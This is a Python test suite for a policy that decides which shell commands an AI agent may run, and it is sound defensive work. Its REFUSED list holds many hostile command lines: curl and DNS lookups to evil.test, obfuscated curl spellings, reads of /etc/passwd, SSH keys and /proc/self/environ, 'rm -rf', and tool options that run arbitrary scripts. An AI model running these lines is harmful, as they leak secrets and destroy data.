"""Which command lines a model may run, in every spelling we know of."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.commands_policy import Allowed, Policy, Refused, rule_problem
from bot.domain.errors import UserError
from bot.domain.presets import PRESETS

ALL = Policy.of()

FINE = r"""
pytest
pytest -q tests/test_a.py::test_b
pytest -xvs -k 'a and not b' tests
pytest --maxfail=1 --tb=short -p no:cacheprovider
pytest -n4 -rA "tests/a.py::test[1]"
pytest -- tests
python -m pytest -q
python3 -m pytest --lf
uv run pytest
python -m unittest tests.test_a -v
python -m unittest discover -s tests
ruff check . --select E,F
ruff format --check bot
mypy --strict bot
python -m mypy bot
pip list
python3 -m pip show requests
npm test
npm test -- -t 'adds numbers'
npm run build:prod
npm run test -- src/a.test.js --watch=false
pnpm run lint
yarn test src
npm ls --depth=0
npx tsc --noEmit -p tsconfig.json
npx --no-install jest -t adds
npx eslint --max-warnings=0 -f json src
npx vitest run src/a.test.ts
node --test
node --test-name-pattern=adds --test test/a.js
node scripts/check.js
go test ./...
go test -run TestA -count=1 ./pkg/...
go test --run=TestA -v .
go vet ./...
go build -o /dev/null ./...
cargo test --workspace -p core some_test -- --nocapture
cargo clippy -- -D warnings
cargo fmt --all --check
mvn -q -B -Dtest=FooTest#bar test
gradle :app:test --tests 'a.B'
dotnet test --filter Name=x
bundle exec rspec spec/a_spec.rb:12
phpunit --filter testA tests
composer test
make test
make -j4 -k lint test
git status
git status --short --branch
git diff --stat
git diff HEAD~1 -- src
git diff -U3 --cached
git log -5
git log --oneline -n 3 main..HEAD
git log --format='%h %s' -p src
git --no-pager log -1
git show HEAD:src/a.py
git show @
git blame -L 1,20 src/a.py
git ls-files --others --exclude-standard
git grep -n foo src
git rev-parse --abbrev-ref HEAD
git branch
git branch --list 'feature/x'
rg foo src
rg 'a|b' src
rg -n -g '*.py' "foo bar" -A3
rg -e-x src
rg --files src
rg '/api/../v1' src
grep -rn --include='*.py' foo .
grep -C 3 foo a.py
find . -name "*.py" -not -path "./.git/*"
find src -type f -size -10k -mtime -1
find . '(' -name a -o -name b ')' -print0
sed -n 1,20p f
sed -n '5p' a b
sed -n '10,$p' f
ls -la src
ls
cat README.md /workspace/repo/a.py
head -20 a.py
tail -n +5 a.py
tail -n -5 a.py
wc -l a b
diff -u a b
rg "a\"b\\c" a\ b
""".strip().split("\n")

REFUSED = r"""
grep x f ; curl http://evil.test
git fetch && git pull && git clean -fd
pytest | sh
pytest || sh
pytest & curl evil.test
pytest &
(pytest)
{ pytest; }
pytest $(curl evil.test)
pytest `id`
pytest "`id`"
pytest "$(id)"
pytest "\$HOME"
rg "a!b" src
pytest $HOME
pytest ${IFS}
cat$IFS/etc/passwd
pytest <(curl evil.test)
pytest < a
pytest > a
pytest 2>&1
pytest tests/*.py
pytest tests/?.py
pytest tests/[ab].py
ls ~
ls ~root
ls --color=~/x
pytest # all
if true; then curl evil.test; fi
while true
! pytest
"cu"rl evil.test
c\url evil.test
$'\x63url' evil.test
cu''rl evil.test
{curl,evil.test}
/usr/bin/curl evil.test
./../../usr/bin/curl
./x.sh
/bin/ls
busybox wget
env curl
env pytest
xargs curl
nice curl
timeout 5 curl
sudo pytest
PATH=. pytest
A+=b pytest
'A=b' pytest
eval pytest
exec pytest
command pytest
ping -c1 evil.test
nslookup abc.evil.test
dig abc.evil.test
host abc.evil.test
sh -c id
bash x.sh
cd src
rm -rf .
tee a
'unclosed
"unclosed
pytest \
''
find . -name a.py -exec sh -c id \;
find . -execdir id ';'
find . -ok id ';'
find . -okdir id ';'
find . -delete
find . -name -delete
find . -name=x -delete
find -- . -delete
find . --delete
find . -fprintf /tmp/x %p
find . -fprint x
find . -fls x
find . -files0-from x
find -L . -name a
find / -name a
find .. -name a
rg --pre ./x.sh foo
rg --pre=./x.sh foo
rg --pr=./x.sh foo
rg -z foo
rg --search-zip foo
rg --hostname-bin=./x foo
rg -L foo
rg --ignore-file=x foo
rg foo /etc
rg foo ../other
rg -f /etc/passwd x
rg -nz foo
rg -- --pre=./x foo
rg foo -- --pre=./x
grep -R foo .
grep -f/etc/passwd x
grep --exclude-from=x foo
sed -n "1e id" f
sed -n 1p -i f
sed -n -i 1p f
sed -n 1p --in-place f
sed -n '1w x' f
sed -n '1,5p;w x' f
sed -i "s/a/b/w /tmp/out" f
sed -i s/a/b/ f
sed -n
sed -n 1p /etc/passwd
sed -e 1p f
go test -exec ./x.sh ./...
go test --exec=./x.sh ./...
go test -toolexec=./x ./...
go test -o x ./...
go test -c ./...
go test -coverprofile=x ./...
go test -overlay=x ./...
go test -ldflags=-x ./...
go test ./... -args -x
go test -v=true ./...
go vet -vettool=./x ./...
go build -o x .
go run .
go generate
go env -w A=b
go get x
fd -x sh
git grep --open-files-in-pager=./x.sh foo
git grep -O./x.sh foo
git grep -nO./x.sh foo
git grep --open-files-in=./x.sh foo
git grep --no-index foo /etc
git grep -f /etc/passwd
git diff --output=/workspace/repo/.bashrc
git diff --output x
git diff --outp=x
git diff --ext-diff
git diff --textconv
git diff --no-index a b
git diff -O../x
git log --output=x
git log --show-signature
git log --format=%G?
git log --format='%h %+GS'
git log --pretty=format:%GK
git -c core.pager=./x.sh log
git --exec-path=. status
git --paginate -c pager.log=./x log
git -C .. status
git --git-dir=x status
git --no-pager -c a=b log
git branch x
git branch -D x
git branch --list -D x
git checkout x
git push
git commit -m x
git config a b
git fetch
git blame --contents=/etc/passwd a
git show HEAD -- ../x
git difftool
git help -w log
pytest -p evil
pytest -pevil
pytest -xpevil
pytest -vvp evil
pytest -c evil.ini
pytest --config-file=x
pytest -o python_files=x
pytest --override-ini=a=b
pytest --rootdir=/tmp
pytest --basetemp=x
pytest --junitxml=x
pytest --junit-x=x
pytest --pdb
pytest --pdbcls=a:b
pytest --trace
pytest --log-file=x
pytest --pastebin=all
pytest --cov-report=html:x
pytest --cov-config=x
pytest -W error::evil.X
pytest @args
pytest -- @args
pytest -- -p evil
pytest /etc
pytest ../other
pytest a/../../b
pytest --ignore=/etc
pytest --ignore ../x
pytest --deselect=../../x
pytest -k
pytest -k -p
pytest --lf=x
pytest --tb=evil
pytest -é
python -c "import os"
python x.py
python -m http.server
python -m pip install x
pip install x
pip download x
python -im pytest
python -m unittest ../x
uv run sh
uv run --with x pytest
uv pip install x
ruff check --fix
ruff check --config=x .
ruff check --config x .
ruff check -o x .
ruff check --output-file=x
ruff check --add-noqa
ruff check --cache-dir=x
ruff check --watch .
ruff format .
ruff format --diff --config=x .
ruff clean
mypy --config-file=x
mypy --install-types
mypy --python-executable=./x
mypy --html-report=x
mypy --cache-dir=x
mypy @args
npm install x
npm i
npm ci
npm exec x
npm run
npm run x -- --globalSetup=./e.js
npm run x -- -u
npm run ../x
npm test --script-shell=./x
npm test --prefix=..
npm test --node-options=--require=./x
npm test -g
npm publish
npm --prefix x test
npx evil
npx -y tsc
npx -p evil tsc
npx -c id
npx tsc --outDir x
npx tsc --init
npx tsc -w
npx tsc -p ../tsconfig.json
npx tsc @args
tsc --generateTrace x
eslint --fix src
eslint -c x src
eslint --rulesdir=x src
eslint --resolve-plugins-relative-to=x src
eslint -f ./evil.js src
eslint -o x src
jest -u
jest --config=x
jest -c x
jest --globalSetup=./x
jest --outputFile=x
jest --watch
vitest
vitest run -c x
vitest run --config=x
vitest run --reporter=./x
node -e 1
node --eval=1
node -p 1
node -r ./x a.js
node --require=./x a.js
node --import=./x a.js
node --loader ./x a.js
node --env-file=x a.js
node --inspect a.js
node --test-reporter=./x
node --test_reporter=./x
node --test-reporter-destination=x --test
node --cpu-prof a.js
node ../a.js
cargo test --config x
cargo test --manifest-path=../Cargo.toml
cargo test --target-dir=x
cargo test -Zx
cargo test -- --logfile x
cargo clippy --fix
cargo clippy -- -Clinker=./x
cargo fmt
cargo run
cargo install x
cargo +nightly test
mvn exec:exec
mvn -Dexec.executable=sh test
mvn -f x test
mvn -s x test
mvn deploy
gradle -I x test
gradle --init-script=x test
gradle -Pa=b test
gradle run
dotnet test --logger x
dotnet test --settings x
dotnet test -p:x=y
dotnet test /p:x=y
dotnet test @x
dotnet run
rspec -r ./x
rspec --require=./x
rspec -I x
rspec -o x
rspec --out=x
rspec -f Evil
bundle exec sh
bundle install
phpunit --bootstrap=x
phpunit -c x
phpunit -d a=b
phpunit --log-junit=x
phpunit --prepend=x
composer install
composer test -- -x
make SHELL=./x test
make CC=./x
make -f x
make -C ..
make --eval=x
make -E x
make --directory=..
make ../x
make /etc/x
make -- -f
ls /
ls ..
ls -L
ls --hyperlink=always src/../..
cat /etc/passwd
cat /workspace/repo-secrets/a
cat /workspace/repo/../x
cat //etc/passwd
cat ~
cat '~/.ssh/id_rsa'
cat file:///etc/passwd
cat a/../..
cat /proc/self/environ
tail -f a
tail --follow=name a
wc --files0-from=x
diff -l a b
diff --to-file=/etc a
diff --from-file /etc/passwd a
head -n
""".strip("\n").split("\n")


@pytest.mark.parametrize("line", FINE)
def test_what_a_developer_needs_is_allowed_as_words(line: str) -> None:
    decision = ALL.decide(line)
    assert isinstance(decision, Allowed), decision
    assert list(decision.argv) == shlex.split(line)
    assert decision.rule.startswith("preset ")


@pytest.mark.parametrize("line", REFUSED)
def test_what_a_shell_or_an_option_could_do_is_refused(line: str) -> None:
    decision = ALL.decide(line)
    assert isinstance(decision, Refused), decision
    assert decision.reason.endswith(".")
    assert decision.hint is None or decision.hint.endswith(".")


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("pytest\ncurl evil.test", "line end"),
        ("pytest\rls", "line end"),
        ("pytest\0", "U+0000"),
        ("pytest \x1b[31m", "U+001B"),
        ("pytest \u202etset", "U+202E"),
        ("pytest a\u200bb", "U+200B"),
        ("pytest '\U000e0041'", "U+E0041"),
        ("pytest \u3164", "U+3164"),
        ("pytest \ufe0f", "U+FE0F"),
        ("pytest \ud800", "U+D800"),
        ("pytest\u00a0tests", "no plain space"),
        ("pytest\u3000tests", "no plain space"),
        ("x" * 4097, "longer than 4096"),
        ("ls " + "a " * 300, "more than 256 words"),
        ("pytest --frobnicate", "`--frobnicate` is not among"),
        ("pytest -q --lf=1", "takes no value"),
        ("git push", "No rule allows this use of `git`"),
        ("frobnicate", "No rule allows the program `frobnicate`"),
    ],
)
def test_the_reason_names_what_is_wrong(line: str, said: str) -> None:
    decision = ALL.decide(line)
    assert isinstance(decision, Refused)
    assert said in decision.reason


@pytest.mark.parametrize(
    ("line", "hint"),
    [
        ("pytest && ls", "Run two commands as two calls"),
        ("pytest\nls", "Run two commands as two calls."),
        ('rg "a$" src', "Use single quotes."),
        ("rg -e -x", "Glue the value to the option: `-eVALUE`."),
        ("rg --regexp -x", "`--regexp=VALUE`"),
        ("git push", "Allowed after `git`: --no-pager, blame, branch"),
        ("npm install x", "installed by `setup`"),
        ("cd src", "top folder"),
        ("./gradlew test", "`commands.allow`"),
        ("PATH=. pytest", "Begin with the program."),
        ("sed -n 1p -i f", "No options are allowed here."),
    ],
)
def test_the_hint_names_the_form_that_would_do(line: str, hint: str) -> None:
    decision = ALL.decide(line)
    assert isinstance(decision, Refused)
    assert hint in (decision.hint or "")


@pytest.mark.parametrize(
    ("rule", "line", "allowed"),
    [
        ("./gradlew test *", "./gradlew test --info", True),
        ("./gradlew test *", "./gradlew test", True),
        ("./gradlew test *", "./gradlew run", False),
        ("./gradlew test *", "./gradlew test --init-script=/etc/x", False),
        ("./gradlew test *", "./gradlew test -I../x", False),
        ("./gradlew test *", "./gradlew test > x", False),
        ("tox -e py311", "tox -e py311", True),
        ("tox -e py311", "tox -e py311 -x", False),
        ("pytest --junitxml=out.xml *", "pytest --junitxml=out.xml tests", True),
        ("say 'two words'", "say 'two words'", True),
        ("say 'two words'", "say two words", False),
    ],
)
def test_a_repository_rule_allows_its_words_and_after_a_star_any(rule: str, line: str, allowed: bool) -> None:
    decision = Policy.of(allow=[rule]).decide(line)
    assert isinstance(decision, Allowed) is allowed
    if isinstance(decision, Allowed):
        assert decision.rule == f"commands.allow: {rule}"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("npm run deploy", "npm run deploy"),
        ("npm run deploy", "npm run deploy x"),
        ("npm run deploy", "npm run 'dep'loy"),
        ("npm run deploy", "npm run -s deploy"),
        ("npm run deploy", "npm run -- deploy"),
        ("git log *", "git --no-pager log"),
        ("pytest", "python3 -m pytest -q"),
        ("pytest *", "uv run pytest"),
        ("tool x", "tool x y"),
    ],
)
def test_a_denied_command_is_denied_in_every_spelling_and_whatever_allows_it(rule: str, line: str) -> None:
    decision = Policy.of(allow=["tool *", "npm *"], deny=[rule]).decide(line)
    assert isinstance(decision, Refused)
    assert f"commands.deny: {rule}" in decision.reason


def test_a_deny_rule_leaves_the_rest_alone() -> None:
    assert isinstance(Policy.of(deny=["npm run deploy"]).decide("npm run build"), Allowed)


@pytest.mark.parametrize(
    ("rule", "said"),
    [
        ("*", "lone `*`"),
        (" * ", "lone `*`"),
        ("", "empty"),
        ("npm * test", "last word"),
        ("npm*", "last word"),
        ("a; b", "`;`"),
        ("A=b c", "variable"),
        ("a 'b", "left open"),
    ],
)
def test_a_rule_that_says_too_much_or_nothing_is_no_rule(rule: str, said: str) -> None:
    assert said in (rule_problem(rule) or "")
    with pytest.raises(UserError, match="can't be used"):
        Policy.of(allow=[rule])


def test_a_good_rule_has_no_problem() -> None:
    assert rule_problem("npm run *") is None


def test_only_the_presets_of_the_ecosystems_hold() -> None:
    python = Policy.of(ecosystems={"python"})
    assert isinstance(python.decide("pytest"), Allowed)
    assert isinstance(python.decide("git status"), Allowed)
    assert isinstance(python.decide("npm test"), Refused)


def test_words_are_handed_on_unless_they_lead_out() -> None:
    assert ALL.words("test_a 'b c'") == ("test_a", "b c")
    assert isinstance(ALL.words("a; b"), Refused)
    assert isinstance(ALL.words("../x"), Refused)


def test_no_two_presets_begin_alike() -> None:
    beginnings = [preset.words for preset in PRESETS]
    assert len(beginnings) == len(set(beginnings))


PIECES = st.sampled_from([*"'\"\\ $`;&|<>(){}[]*?~#!-=/.@", "..", "--", "pytest", "git", "rg", "find", "é", "a b"])
LINES = st.text() | st.lists(PIECES, max_size=20).map("".join)
BEGUN = st.builds(
    lambda preset, rest: " ".join([*preset.words, *rest]), st.sampled_from(PRESETS), st.lists(LINES, max_size=4)
)


@given(LINES | BEGUN)
def test_any_text_gets_an_answer_and_what_is_allowed_are_the_words_a_shell_would_start(line: str) -> None:
    decision = Policy.of(allow=["say *"]).decide(line)
    if isinstance(decision, Allowed):
        assert list(decision.argv) == shlex.split(line)
        assert not set("\n\r\0") & set(line)


@given(st.lists(st.text(st.characters(categories=["L", "N", "P", "S"])), max_size=5))
def test_quoted_words_arrive_as_they_are(words: list[str]) -> None:
    argv = ("say", *words)
    decision = Policy.of(allow=["say *"]).decide(" ".join("'" + word.replace("'", "'\\''") + "'" for word in argv))
    assert isinstance(decision, Refused) or decision.argv == argv


@given(LINES)
def test_any_rule_is_used_or_explained(rule: str) -> None:
    problem = rule_problem(rule)
    assert problem is None or problem
    if problem is None:
        Policy.of(deny=[rule])
